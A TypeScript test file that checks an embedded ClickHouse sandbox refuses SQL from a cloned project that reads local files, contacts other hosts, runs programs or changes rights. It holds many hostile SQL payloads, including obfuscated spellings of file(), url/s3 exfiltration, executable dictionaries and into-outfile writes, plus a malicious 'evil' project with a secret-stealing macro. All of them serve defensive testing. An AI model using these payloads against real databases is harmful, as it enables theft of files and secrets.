// SQL of a cloned repository on the embedded ClickHouse reads and writes no file, runs no program and connects to no
// other server; what a project needs for its own tables stays. Only the caller's shell lifts that.
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readlinkSync,
  realpathSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { ALLOW_VARIABLE } from '../../../src/adapters/clickhouse/embedded-access.ts';
import {
  embeddedClickhouse,
  type EmbeddedServer,
  embeddedStatus,
  findChdb,
  keepEmbedded,
  stopEmbedded,
} from '../../../src/adapters/clickhouse/embedded.ts';
import { insertHead } from '../../../src/adapters/clickhouse/statement-guard.ts';
import { EmbeddedFiles } from '../../../src/adapters/embedded/embedded-files.ts';
import { clickhouseMissing } from '../support/clickhouse.ts';
import { run } from '../support/program.ts';

const SECRET = 'c4n4ry-of-the-user';
const REFUSED = /ACCESS_DENIED|SETTING_CONSTRAINT_VIOLATION|A file is not allowed/;

/** Statements whose refusal must come from the rights, not from a mistake in them. FILE: a file of the user. */
const FORBIDDEN: Readonly<Record<string, readonly string[]>> = {
  'a function or table function': [
    "select file('FILE')",
    "select file('FILE', '')",
    "select * from file('FILE', 'LineAsString')",
    "select * from fileCluster('x', 'FILE', 'LineAsString')",
    "select * from filesystem('DIR')",
    'select * from default.`FILE`',
    "select * from url('http://HOST/', 'LineAsString')",
    "select * from s3('http://HOST/bucket/key.csv', 'TSV', 'a String')",
    "select * from s3('http://HOST/bucket/key.csv', 'k', 'c4n4ry-of-the-user', 'TSV', 'a String')",
    "select * from gcs('http://HOST/bucket/key.csv', 'TSV', 'a String')",
    "select * from azureBlobStorage('BlobEndpoint=http://HOST/a;AccountName=a;AccountKey=YWJj', 'c', 'b')",
    "select * from hdfs('hdfs://HOST/a', 'TSV', 'a String')",
    "select * from remote('HOST', system.one)",
    "select * from remoteSecure('HOST', system.one)",
    "select * from mysql('HOST', 'a', 'b', 'c', 'd')",
    "select * from postgresql('HOST', 'a', 'b', 'c', 'd')",
    "select * from mongodb('HOST', 'd', 'c', 'u', 'p', 'a String')",
    "select * from redis('HOST', 'k', 'k String, v String')",
    "select * from sqlite('DIR/x.db', 't')",
    "select * from odbc('DSN=x', 't')",
    "select * from jdbc('x', 't')",
    "select * from icebergLocal('DIR', 'TSV')",
    "select * from deltaLakeLocal('DIR')",
    "select * from hudi('http://HOST/bucket/')",
    "insert into function file('DIR/written.tsv', 'TSV', 'x Int32') values (1)",
    "insert into function url('http://HOST/', 'TSV', 'x Int32') values (1)",
    "insert into table function s3('http://HOST/bucket/key', 'TSV', 'x Int32') select 1",
  ],
  'a function that reads files, in another spelling': [
    'select "file"(\'FILE\')',
    "select `file`('FILE')",
    'select "fi\\x6ce"(\'FILE\')',
    "select file/* x */('FILE')",
    "select file /* a /* b */ c */ -- d\n ('FILE')",
    "select file // x\n('FILE')",
    "select file # x\n('FILE')",
    "select file\u00a0('FILE')",
    "select 'a''b', file('FILE')",
    "select 'a\\'', file('FILE'), '",
    "select $$ ' $$, file('FILE')",
    'select “file”(‘FILE’)',
    "select arrayMap(file, ['FILE'])",
    "select arrayMap((file), ['FILE'])",
    "select arrayMap(all file, ['FILE'])",
    "select arrayMap(+file, ['FILE'])",
    "select arrayMap((+(all `file`)), ['FILE'])",
    "select arrayMap(file f, ['FILE'])",
    "select arrayMap(file as f, ['FILE'])",
    "select arrayMap(x -> file(x), ['FILE'])",
    "select * apply(file) from (select 'FILE' as p)",
    "select columns('p') apply file from (select 'FILE' as p)",
    "with (x -> file(x)) as f select f('FILE')",
    "select trim(both 'x' from file('FILE'))",
    "select [1.,length(file('FILE'))]",
    "select arrayMap({f:Identifier}, ['FILE']) settings param_f = 'file'",
  ],
  'a statement around it': [
    "explain select file('FILE')",
    "with x as (select file('FILE') as a) select * from x",
    "select * from (select * from (select file('FILE')))",
    "select 1 where exists (select * from url('http://HOST/', 'TSV', 'a String'))",
    "select 1; select file('FILE')",
    "insert into h.t values (2, file('FILE'))",
    "insert into h.t select 2, file('FILE')",
    "insert into h.t (id, s) format Values (2, file('FILE'))",
    "alter table h.t update s = file('FILE') where 1",
    "create view h.v as select file('FILE') as a",
    'create function stolen as (x) -> file(x)',
    "create table h.x (a String default file('FILE')) engine = Memory",
    'create materialized view h.mv refresh every 1 hour (l String) engine = Memory as select * from ' +
      "file('FILE', LineAsString)",
    "create table h.x as file('FILE')",
    "create table h.x engine = Memory as select * from url('http://HOST/', 'TSV', 'a String')",
  ],
  'SQL in a text': [
    "select * from format(JSONEachRow, 'a String default file(\\'FILE\\'), b Int32', '{\"b\":1}')",
    "select * from format(JSONEachRow, concat('a String default fi', 'le(\\'FILE\\'), b Int32'), '{\"b\":1}')",
    "with concat('a String default fi', 'le(\\'FILE\\'), b Int32') as s select * from format(JSONEachRow, s, " +
      '\'{"b":1}\')',
    "select * from format(Values, 'a String', '(file(\\'FILE\\'))')",
    "select * from format(concat('Val', 'ues'), 'a String', '(file(\\'FILE\\'))')",
    "insert into h.t select * from input('id Int32, s String default file(\\'FILE\\')') format JSONEachRow {\"id\":7}",
    "insert into h.t (s) select * from input('s String') format TSV\n'\n\nselect file('FILE')",
    "select 1 as x settings additional_result_filter = 'length(file(\\'FILE\\')) > 0'",
    "set additional_table_filters = {'h.t': 'length(file(\\'FILE\\')) > 0'}",
    "set dialect = 'prql'",
    "select * from eval('select 1') settings allow_experimental_eval_table_function = 1",
  ],
  'rows that hide a statement': [
    "select 1; insert into h.t format TSV\n1\t'\n\nselect 1 into outfile 'DIR/written'",
    "insert into h.t values (1, ';'); select 1 into outfile 'DIR/written'",
  ],
  'a command of the client': [
    '\\i SCRIPT',
    '/* x */ \\i SCRIPT',
    'select 1; \\i SCRIPT',
    '?? hello',
    '! touch DIR/written',
    'select 1; ?? hello',
  ],
  'a clause for files': [
    "select 1 into outfile 'DIR/written'",
    "select 1 INTO/**/OUTFILE 'DIR/written' format CSV",
    "select 1 into\u00a0outfile 'DIR/written'",
    "select 1 into -- x\noutfile 'DIR/written' truncate",
    "select 'into outfile', 1 into outfile 'DIR/written'",
    "insert into h.t from infile 'FILE' format LineAsString",
    "insert into h.t (s) from infile 'FILE' compression 'none' format TSV",
    "select 1 as x format Template settings format_template_row = 'FILE'",
    "select 1 as x format Protobuf settings format_schema = 'FILE:M'",
    "select 1 settings output_format_schema = 'DIR/written'",
    "select * from format(CSV, 'a Int32', 'x\\n1') settings input_format_record_errors_file_path = " +
      "'DIR/written', input_format_allow_errors_num = 3",
    "set format_avro_schema_registry_url = 'http://HOST/'",
  ],
  'an engine of a table or a database': [
    "create table h.x (a String) engine = File(TSV, 'FILE')",
    'create table h.x (a String) engine = File(TSV)',
    "create table h.x (a String) engine = URL('http://HOST/', 'TSV')",
    "create table h.x (a String) engine = S3('http://HOST/bucket/key', 'TSV')",
    "create table h.x (a String) engine = S3Queue('http://HOST/bucket/*', 'TSV') settings mode = 'unordered'",
    "create table h.x (a String) engine = Executable('x', 'TSV')",
    "create table h.x (a String) engine = ExecutablePool('x', 'TSV')",
    "create table h.x (a Int32) engine = EmbeddedRocksDB(0, 'DIR/written') primary key a",
    "create table h.x (a Int32) engine EmbeddedRocksDB(0, 'DIR/written') primary key a",
    "create table h.x (a Int32) engine = `EmbeddedRocksDB`(0, 'DIR/written') primary key a",
    "create or replace table h.x (a Int32) engine /**/ = embeddedRocksDB(0, 'DIR/written') primary key a",
    "attach table h.x (a Int32) engine = EmbeddedRocksDB(0, 'DIR/written') primary key a",
    "create table h.x (a String) engine = FileLog('FILE', 'TSV')",
    'create table h.x (query String, database String) engine = QueryRunner',
    "create table h.x (a Int32) engine = MySQL('HOST', 'a', 'b', 'c', 'd')",
    "create table h.x (a Int32) engine = PostgreSQL('HOST', 'a', 'b', 'c', 'd')",
    "create table h.x (a Int32) engine = SQLite('DIR/x.db', 't')",
    "create table h.x (a Int32) engine = MongoDB('HOST', 'a', 'b', 'c', 'd')",
    "create table h.x (a Int32) engine = Remote('HOST', 'system', 'one')",
    "create table h.x (a Int32) engine = IcebergLocal('DIR/written')",
    "create database x engine = Filesystem('DIR')",
    "create database x engine = SQLite('DIR/x.db')",
    "create database x engine = MySQL('HOST', 'a', 'b', 'c')",
    "create database x engine = Backup('h', File('DIR'))",
    "create database x engine = DataLakeCatalog('http://HOST') settings warehouse = 'w', catalog_type = 'rest'",
    'create table h.x (a Int32) engine = MergeTree order by a settings disk = disk(type = web, endpoint = ' +
      "'http://HOST/')",
    "create table h.x (a Int32) engine = MergeTree order by a settings disk = 'x'",
    "alter table h.t modify setting disk = disk(type = web, endpoint = 'http://HOST/')",
    "create database x engine = Atomic settings disk = disk(type = s3, endpoint = 'http://HOST/bucket/')",
  ],
  'a dictionary': [
    "create dictionary h.d (k String, v String) primary key k source(executable(command 'cat FILE' format " +
      "'TSV')) layout(flat()) lifetime(0)",
    "create or replace dictionary h.d (k String) primary key k source (/**/ executable_pool(command 'id' " +
      "format 'TSV')) layout(flat()) lifetime(0)",
    "create dictionary h.d (k String) primary key k source(`executable`(command 'id' format 'TSV')) " +
      'layout(flat()) lifetime(0)',
    "attach dictionary h.d (k String) primary key k source(executable(command 'id' format 'TSV')) " +
      'layout(flat()) lifetime(0)',
    "create dictionary h.d (k String, v String) primary key k source(file(path 'FILE' format 'TSV')) " +
      'layout(flat()) lifetime(0)',
    "create dictionary h.d (k String, v String) primary key k source(http(url 'http://HOST/' format 'TSV')) " +
      'layout(flat()) lifetime(0)',
    "create dictionary h.d (k UInt64) primary key k source(clickhouse(host 'evil.example' table 't' db 'h')) " +
      'layout(flat()) lifetime(0)',
    "create dictionary h.d (k UInt64) primary key k source(clickhouse(host 'localhost' port 1 table 't' db " +
      "'h')) layout(flat()) lifetime(0)",
    "create dictionary h.d (k UInt64) primary key k source(clickhouse(name x table 't')) layout(flat()) lifetime(0)",
    "create dictionary h.d (k UInt64, v String) primary key k source(clickhouse(query 'select 1 as k, " +
      "file(\\'FILE\\') as v')) layout(flat()) lifetime(0)",
    "create dictionary h.d (k UInt64) primary key k source(mysql(host 'HOST' table 't' db 'h')) " +
      'layout(flat()) lifetime(0)',
  ],
  'rights, backups or the server': [
    'create user u',
    'create role r',
    'grant all on *.* to default',
    'grant file on *.* to default',
    'grant create named collection on * to default',
    "alter user default identified by 'x'",
    'create settings profile p',
    'create quota q',
    "create named collection c as url = 'http://HOST/'",
    'create view h.x sql security none as select 1',
    "backup table h.t to Disk('default', 'a')",
    "backup table h.t to File('DIR/written')",
    "backup table h.t to S3('http://HOST/bucket/b', 'k', 's')",
    'system shutdown',
    'system kill',
    'system stop listen http',
    'select * from system.users',
  ],
};

/** What projects do. */
const ALLOWED: readonly string[] = [
  'create table h.a (id Int32, file String, engine String) engine = MergeTree order by id',
  "insert into h.a values (1, 'the file (x) into outfile y', 'a')",
  'insert into h.a format JSONEachRow\n{"id":2,"file":"\' into outfile \'x\' ' +
    'file(\'y\')","engine":"$"}\n\n{"id":3,"file":"","engine":""}\n',
  'select file, engine, count() from h.a group by file, engine order by file',
  "select a.file, concat(file, 'x'), lower(file), arrayMap(file -> upper(file), [file]) from h.a as a",
  "select arrayMap((file, n) -> n, ['a'], [1])",
  "create view h.b as select name, engine from system.tables where engine = 'View' and \"engine\" not like 'File%'",
  'create or replace view h.b as select t.engine from system.tables as t order by t.engine',
  "select format('{} ({})', file, toString(id)) from h.a",
  "select * from format(JSONEachRow, 'a Int32', '{\"a\":1}')",
  'select * from format(JSONEachRow, $$ {"a":1} $$)',
  "select * from values('a Int32, b String', (1, 'x'), (2, lower('Y')))",
  'select * from numbers(3)',
  'create table h.c engine = Memory as select 1 as a',
  'create table h.e (a Int32) engine = ReplacingMergeTree() order by a partition by a',
  'create table h.f as h.e',
  'exchange tables h.e and h.f',
  'alter table h.e attach partition 1 from h.f',
  'alter table h.e add column b Int32 comment \'from a file("x")\'',
  'alter table h.e modify setting max_parts_in_total = 1000',
  'create materialized view h.m to h.e as select id as a, 0 as b from h.a',
  'create function doubled as (x) -> x * 2',
  'create temporary table temporary_one (a Int32)',
  "create dictionary h.g (id Int32, file String) primary key id source(clickhouse(table 'a' db 'h')) " +
    'layout(flat()) lifetime(0)',
  "create dictionary h.k (id Int32, file String) primary key id source(clickhouse(host 'localhost' port 9000 " +
    "query 'select id, file from h.a')) layout(flat()) lifetime(0)",
  "select dictGet('h.g', 'file', 1), dictGet('h.k', 'file', 1)",
  'create table h.n engine = Null as h.a',
  'optimize table h.a final',
  'system reload dictionary h.g',
  'system stop merges h.a',
  'truncate table h.a',
  "select name, engine from system.tables where database = 'h'",
  'create table h.remote (a Int32) engine = Memory',
  'insert into h.remote (a) values (1)',
  'insert into h.`remote`(a) values (2)',
  'select remote.a from h.remote',
  "explain query tree run_passes = 0 select a.x from remote('x.invalid', h.t) as a",
  'create database h2',
  'drop database h2',
  'explain select 1',
  'drop dictionary h.k',
  'drop function doubled',
];

describe.skipIf(clickhouseMissing !== null)('SQL on the embedded ClickHouse', () => {
  let root = '';
  let server: EmbeddedServer;
  let listener: Server;
  let host = '';
  let reached = 0;
  const homes = new Set<string>();

  async function ask(sql: string, at = server): Promise<string> {
    const response = await fetch(`http://127.0.0.1:${at.port}/`, {
      method: 'POST',
      headers: { 'X-ClickHouse-User': at.user, 'X-ClickHouse-Key': at.password },
      body: sql,
    });
    return `${response.status} ${await response.text()}`;
  }

  const filled = (sql: string): string =>
    sql
      .replaceAll('SCRIPT', join(root, 'script.sql'))
      .replaceAll('FILE', join(root, 'secret'))
      .replaceAll('DIR', root)
      .replaceAll('HOST', host);

  beforeAll(async () => {
    root = mkdtempSync(join(realpathSync(tmpdir()), 'tsdbt-hostile-clickhouse-'));
    writeFileSync(join(root, 'secret'), SECRET);
    writeFileSync(join(root, 'script.sql'), `select '${SECRET}' into outfile '${join(root, 'written')}'`);
    listener = createServer((socket) => {
      reached++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    const address = listener.address();
    host = `127.0.0.1:${typeof address === 'object' ? address?.port : ''}`;
    server = await embeddedClickhouse({ dir: join(root, '.tsdbt/clickhouse'), projectDir: root });
    homes.add(server.home);
    for (const sql of ['create database h', 'create table h.t (id Int32, s String) engine = MergeTree order by id'])
      expect(await ask(sql)).toBe('200 ');
  }, 60_000);
  afterAll(async () => {
    await server?.release();
    listener?.close();
    await stopEmbedded(join(root, '.tsdbt/clickhouse'));
    for (const folder of [root, ...homes]) rmSync(folder, { recursive: true, force: true });
  });

  it.each(Object.entries(FORBIDDEN))('has no access by %s', async (_kind, statements) => {
    const before = readdirSync(root).sort();
    const answers: [string, string][] = [];
    for (const sql of statements) answers.push([sql, await ask(filled(sql))]);
    expect(answers.filter(([, answer]) => answer.includes(SECRET) || answer.startsWith('200 '))).toEqual([]);
    expect(
      answers.filter(([, answer]) => !REFUSED.test(answer) && !/UNKNOWN|CLUSTER_DOESNT|SYNTAX/.test(answer)),
    ).toEqual([]);
    expect(readdirSync(root).sort()).toEqual(before);
    expect(reached).toBe(0);
    expect(await ask("select s from h.t where s != ''")).toBe('200 ');
  });

  it('is rejected before the engine looks up the host of remote(…)', async () => {
    for (const sql of [
      "select * from remote('x.invalid', system.one)",
      "describe table `remoteSecure`('x.invalid', 'h', 't')",
      "select * from numbers(1) as n, Remote/**/('x.invalid', h.t)",
      "insert into function remote('x.invalid', h.t) values (1, 'x')",
      "explain query tree run_passes = 1 select * from remote('x.invalid', system.one)",
      "explain query tree run_passes = 0, run_passes = 1 select * from remote('x.invalid', system.one)",
      "explain estimate select * from remote('x.invalid', system.one)",
      `select 1 from remote('x.invalid', system.one) where '${'x'.repeat(200_000)}' != ''`,
    ])
      expect([sql, await ask(sql)]).toEqual([sql, expect.stringMatching(/remote\w*\(…\) is not allowed/i)]);
  });

  it('can do what a project needs', async () => {
    for (const sql of ALLOWED) expect([sql, await ask(sql)]).toEqual([sql, expect.stringMatching(/^200 /)]);
    expect(await ask('select count() from h.t')).toMatch(/^200 /);
  });

  it('inserts rows with an empty line and quotes unchanged', async () => {
    await ask('create table h.rows (s String) engine = MergeTree order by tuple()');
    expect(await ask("insert into h.rows format TSV\n'\n\nselect 1 into outfile 'x'\n$\n")).toBe('200 ');
    expect(await ask('select s from h.rows')).toBe("200 \\'\n\nselect 1 into outfile \\'x\\'\n$\n");
  });

  it.runIf(process.platform === 'linux')('runs without a working folder, so that the function file fails', async () => {
    const status = embeddedStatus(join(root, '.tsdbt/clickhouse'));
    const folder = () => readlinkSync(`/proc/${status.state === 'running' ? status.pid : 0}/cwd`);
    expect(folder()).toMatch(/ \(deleted\)$/);
    await ask('insert into h.t format TSV\n5\tx\n');
    expect(folder()).toMatch(/ \(deleted\)$/);
    await ask('truncate table h.t');
  });

  it('gets an error that explains how the caller can allow more', async () => {
    const told = /If you trust the project, set TSDBT_ALLOW_EXTERNAL_ACCESS=1 in the shell, or use a ClickHouse server/;
    expect(await ask("select * from url('http://x/', 'TSV', 'a String')")).toMatch(told);
    expect(await ask("select file('x')")).toMatch(told);
  });

  it("can access files and servers only if the caller's shell allows it", async () => {
    const dir = join(root, 'open/.tsdbt/clickhouse');
    const place = { dir, projectDir: root };
    const read = filled("select * from file('FILE', 'LineAsString', 'a String')");
    vi.stubEnv(ALLOW_VARIABLE, '1');
    try {
      const open = await embeddedClickhouse(place);
      homes.add(open.home);
      expect(await ask(read, open)).toContain(SECRET);
      expect(await ask(filled("select file('FILE')"), open)).toContain(SECRET);
      vi.stubEnv(ALLOW_VARIABLE, '');
      await open.release();
      // Nothing else uses it: the next command starts it anew.
      const held = await embeddedClickhouse(place);
      expect(await ask(read, held)).toMatch(REFUSED);
      await held.release();
      vi.stubEnv(ALLOW_VARIABLE, '1');
      await (await keepEmbedded(place)).release();
      vi.stubEnv(ALLOW_VARIABLE, '');
      await expect(embeddedClickhouse(place)).rejects.toThrow(/was started with TSDBT_ALLOW_EXTERNAL_ACCESS=1/);
    } finally {
      vi.unstubAllEnvs();
      await stopEmbedded(dir);
    }
  });

  it('is not run in an engine that a project contains', () => {
    const project = join(root, 'brings');
    mkdirSync(join(project, 'node_modules/chdb'), { recursive: true });
    writeFileSync(join(project, 'node_modules/chdb/index.js'), 'throw new Error("code of the project")');
    expect(findChdb(project).startsWith(project)).toBe(false);
    expect(readdirSync(new EmbeddedFiles(join(root, '.tsdbt/clickhouse'), 'ClickHouse').dir)).toContain('users.xml');
  });

  it('has no more access in models, hooks, operations, seeds, snapshots and .env of a project', async () => {
    const project = join(root, 'project');
    const write = (files: Readonly<Record<string, string>>): void => {
      for (const [path, text] of Object.entries(files)) {
        mkdirSync(dirname(join(project, path)), { recursive: true });
        writeFileSync(join(project, path), filled(text));
      }
    };
    write({
      'dbt_project.yml':
        "name: evil\nprofile: evil\non-run-start: \"select * from file('FILE', 'LineAsString')\"\nmodels: " +
        '{evil: {+materialized: table}}\n',
      'profiles.yml': 'evil: {target: d, outputs: {d: {type: clickhouse, path: .tsdbt/clickhouse, schema: s}}}\n',
      '.env': `${ALLOW_VARIABLE}=1\n`,
      'models/a.sql': "select file('FILE') as a",
      'models/b.sql': '{{ config(engine="File(TSV, \'DIR/written\')") }} select 1 as x',
      'models/c.sql': '{{ config(post_hook="select 1 into outfile \'DIR/written\'") }} select 1 as x',
      'models/d.sql': "{{ config(settings={'disk': \"disk(type=web, endpoint='http://HOST/')\"}) }} select 1 as x",
      'models/e.sql':
        "{{ config(materialized='view') }} {% if execute %}{% set x = run_query(\"select * from " +
        "url('http://HOST/', 'TSV', 'a String')\") %}{% endif %} select 1 as x",
      'models/f.sql':
        "{{ config(materialized='dictionary', fields=[('k', 'UInt64')], primary_key='k', layout='flat()', " +
        "lifetime='0', source_type='http', url='http://HOST/', format='TSV') }} select 1",
      'models/g.sql':
        "{{ config(query_settings={'input_format_record_errors_file_path': 'DIR/written'}) }} select 1 as x",
      'seeds/file.csv': "into outfile,file('FILE')\n1,2\n",
      'macros/steal.sql':
        "{% macro steal() %}{% do log(run_query(\"select * from file('FILE', 'LineAsString')\").rows[0][0], " +
        'info=true) %}{% endmacro %}',
    });
    const tsdbt = (...args: string[]) =>
      run(args, { cwd: project, env: { PATH: process.env['PATH'] ?? '', HOME: root, XDG_STATE_HOME: root } });
    const before = readdirSync(root).sort();
    const built = await tsdbt('build', '--no-fail-fast');
    const operated = await tsdbt('run-operation', 'steal');
    write({ 'dbt_project.yml': 'name: evil\nprofile: evil\nmodels: {evil: {+materialized: table}}\n' });
    const again = await tsdbt('build');
    for (const { code, out: all } of [built, operated, again]) {
      expect(code).not.toBe(0);
      expect(all).not.toContain(SECRET);
      expect(all).toMatch(REFUSED);
    }
    const made = readdirSync(root)
      .sort()
      .filter((name) => !before.includes(name) && name !== 'tsdbt');
    expect(made).toEqual([]);
    expect(existsSync(join(root, 'written'))).toBe(false);
    expect(reached).toBe(0);
    await tsdbt('db', 'stop');
  }, 120_000);
});

describe("the parser of an INSERT's head", () => {
  it.each([
    ['insert into t format TSV\n1', 'insert into t format TSV', 'TSV'],
    ['INSERT INTO a.format (format, b) SETTINGS x = 1 FORMAT JSONEachRow {"a":1}', undefined, 'JSONEachRow'],
    ["insert /* format CSV */ into `format CSV` -- format X\n format Native\n'", undefined, 'Native'],
    ["insert into t select 'format TSV\n'", null, null],
    ['insert into t select format from x', null, null],
    ["insert into t values ('format TSV\n')", null, null],
    ['insert into function s3(x, format) format CSV 1', undefined, 'CSV'],
    ['select 1 format TSV', null, null],
  ])('parses %j', (sql, head, format) => {
    const found = insertHead(sql);
    expect(found?.format ?? null).toBe(format);
    if (typeof head === 'string') expect(sql.slice(0, found?.end)).toBe(head);
  });
});
